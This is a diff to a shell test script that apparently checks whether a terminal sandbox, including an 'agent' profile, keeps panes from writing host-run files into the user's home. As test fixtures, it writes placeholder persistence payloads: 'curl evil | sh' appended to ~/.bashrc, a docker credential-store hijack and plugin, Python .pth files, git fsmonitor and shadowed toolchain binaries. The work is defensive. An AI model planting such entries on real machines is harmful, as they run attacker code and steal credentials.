@@ -67,7 +67,7 @@ for who in root nobody; do
 	H="$D/home"
 	WORK="$D/work"
 	RES="$WORK/.t"
-	mkdir -p "$WORK/.t" "$H/.config" "$H/.docker" "$H/notes"
+	mkdir -p "$WORK/.t" "$H/.config" "$H/.docker" "$H/notes" "$H/bin"
 	echo "# host bashrc" >"$H/.bashrc"
 	echo '{"auths":{}}' >"$H/.docker/config.json"
 	echo "host note" >"$H/notes/todo.txt"
@@ -94,7 +94,7 @@ EOF
 	fi
 
 	# Files no list names: each would run on the host later.
-	run unlisted <<EOF
+	UNLISTED_SCRIPT=$(cat <<EOF
 echo 'curl evil | sh' >>$H/.bashrc
 echo '{"credsStore":"evil","auths":{}}' >$H/.docker/config.json
 mkdir -p $H/.docker/cli-plugins && printf '#!/bin/sh\nevil\n' >$H/.docker/cli-plugins/docker-evil
@@ -104,17 +104,31 @@ mkdir -p $H/.local/share/dbus-1/services && echo 'Exec=evil' >$H/.local/share/db
 echo 'import os; os.system("evil")' >$H/.pdbrc
 mkdir -p $H/.local/lib/python3/site-packages && echo 'import os' >$H/.local/lib/python3/site-packages/evil.pth
 mkdir -p $H/.cargo/registry/src/x/crate && echo 'fn main(){}' >$H/.cargo/registry/src/x/crate/build.rs
+mkdir -p $H/.jupyter $H/.vscode-server/data/Machine $H/.config/mise $H/.cache/pre-commit $H/.emacs.d
+echo 'c.evil = 1' >$H/.jupyter/jupyter_server_config.py; echo '{}' >$H/.vscode-server/data/Machine/settings.json
+echo '[tools]' >$H/.config/mise/config.toml; echo 'evil' >$H/.cache/pre-commit/hook; echo '(evil)' >$H/.spacemacs
+mkdir -p $H/.config/git && echo '[core] fsmonitor = evil' >$H/.config/git/included
+mkdir -p $H/.zdot && echo evil >$H/.zdot/.zshrc; mkdir -p $H/.bashrc.d && echo evil >$H/.bashrc.d/z.sh
+mkdir -p $H/.pyenv/versions/3/lib/python3/site-packages && echo 'import os' >$H/.pyenv/versions/3/lib/python3/site-packages/evil.pth
+mkdir -p $H/.rustup/toolchains/x/bin && echo evil >$H/.rustup/toolchains/x/bin/cargo
+mkdir -p $H/.local/pipx/venvs/t/bin && echo evil >$H/.local/pipx/venvs/t/bin/tool
 cat $H/.bashrc
 EOF
+)
+	run unlisted <<EOF
+$UNLISTED_SCRIPT
+EOF
 	check "$NAME: the pane's own writes succeed in its home (it reads back its ~/.bashrc)" \
-		sh -c 'printf "%s\n" "$1" | grep -q "curl evil"' - "$OUT"
+		shows "curl evil"
 	check "$NAME: ~/.bashrc on the host is byte for byte the host's" \
 		[ "$(cksum "$H/.bashrc")" = "$BASHRC" ]
 	check "$NAME: ~/.docker/config.json (credsStore) on the host is unchanged" \
 		[ "$(cksum "$H/.docker/config.json")" = "$DOCKER" ]
 	check "$NAME: none of the unlisted host-run files reached the host" \
 		absent "$H/.docker/cli-plugins" "$H/.kube" "$H/.config/direnv" "$H/.local/share/dbus-1" \
-		"$H/.pdbrc" "$H/.local/lib" "$H/.cargo"
+		"$H/.pdbrc" "$H/.local/lib" "$H/.cargo" "$H/.jupyter" "$H/.vscode-server" "$H/.config/mise" \
+		"$H/.cache" "$H/.spacemacs" "$H/.config/git" "$H/.zdot" "$H/.bashrc.d" "$H/.pyenv" "$H/.rustup" \
+		"$H/.local/pipx"
 	check "$NAME: changes lists ~/.bashrc as changed" listed ".bashrc"
 	check "$NAME: changes lists the docker plugin as added" listed ".docker/cli-plugins/docker-evil"
 	check "$NAME: changes marks ~/.bashrc host-run" \
@@ -194,11 +208,26 @@ EOF
 	P=$(pane_in "$H")
 	RES="$H/notes"
 	run at-home <<EOF
-echo pane-note >$H/notes/todo.txt; echo 'evil' >>$H/.bashrc; mkdir -p $H/bin 2>&1; echo x >$H/bin/ls 2>&1
+echo pane-note >$H/notes/todo.txt; echo 'evil' >>$H/.bashrc; echo x >$H/bin/ls 2>&1
 EOF
 	check "$NAME: cwd \$HOME: a non-dot entry (~/notes) is the real work tree" \
 		grep -qx pane-note "$H/notes/todo.txt"
 	check "$NAME: cwd \$HOME: ~/.bashrc is still layered" [ "$(cksum "$H/.bashrc")" = "$BASHRC" ]
+	check "$NAME: cwd \$HOME: ~/bin, a PATH directory that is no dot-entry, stays protected" \
+		absent "$H/bin/ls"
+	# The agent profile: $HOME is not writable at all, layer or not.
+	sm split -t %1 -v -l 6 --backend native --profile agent -c "$WORK" -e PS1='$ ' -- /bin/sh >/dev/null 2>&1
+	P=$(newest_pane)
+	wait_for 10 field_is "$P" state warm
+	RES="$WORK/.t"
+	run unlisted-agent <<EOF
+$UNLISTED_SCRIPT
+EOF
+	check "$NAME/agent: none of the unlisted host-run files reached the host" \
+		absent "$H/.docker/cli-plugins" "$H/.kube" "$H/.config/direnv" "$H/.local/share/dbus-1" \
+		"$H/.pdbrc" "$H/.local/lib" "$H/.cargo" "$H/.jupyter" "$H/.pyenv" "$H/.rustup" "$H/.local/pipx"
+	check "$NAME/agent: ~/.bashrc and ~/.docker/config.json unchanged" \
+		sh -c '[ "$(cksum "$1/.bashrc")" = "$2" ] && [ "$(cksum "$1/.docker/config.json")" = "$3" ]' - "$H" "$BASHRC" "$DOCKER"
 	sm kill-server >/dev/null 2>&1
 done
 finish
